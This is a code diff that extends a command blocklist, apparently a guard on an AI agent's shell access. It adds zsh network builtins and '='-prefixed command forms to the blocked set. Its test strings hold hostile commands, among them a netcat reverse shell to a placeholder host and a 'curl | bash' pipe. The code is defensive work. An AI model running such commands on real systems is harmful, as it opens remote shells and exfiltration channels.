@@ -39,15 +39,17 @@ export const BLOCKLIST: readonly BlocklistRule[] = [
       "sudo --bogus-option curl example.org",
       "echo 'curl example.org' | bash",
       "CURL example.org",
+      "=curl example.org",
     ],
     notMatch: ["grep -n curl src/index.ts", "echo \"wget is not allowed\"", "man curl", "which curl", "git log --grep=curl", "cat docs/curl.md"],
   },
   {
     id: "blocklist.socket",
-    programs: ["nc", "ncat", "netcat", "socat", "telnet"],
+    // ztcp / zsocket: zsh builtins from `zmodload zsh/net/tcp` and `zsh/net/socket`.
+    programs: ["nc", "ncat", "netcat", "socat", "telnet", "ztcp", "zsocket"],
     does: "opens raw network connections (a reverse shell or an exfiltration channel)",
     instead: "ask the user to run it themselves if a raw connection is really needed",
-    match: ["nc -l 4444", "ncat example.org 80", "socat TCP:example.org:80 -", "nohup nc -e /bin/sh example.org 4444 &", "telnet example.org"],
+    match: ["nc -l 4444", "ncat example.org 80", "socat TCP:example.org:80 -", "nohup nc -e /bin/sh example.org 4444 &", "telnet example.org", "zmodload zsh/net/tcp; ztcp example.org 80", "=nc -l 1"],
     notMatch: ["grep -rn socat .", "echo nc"],
   },
   {
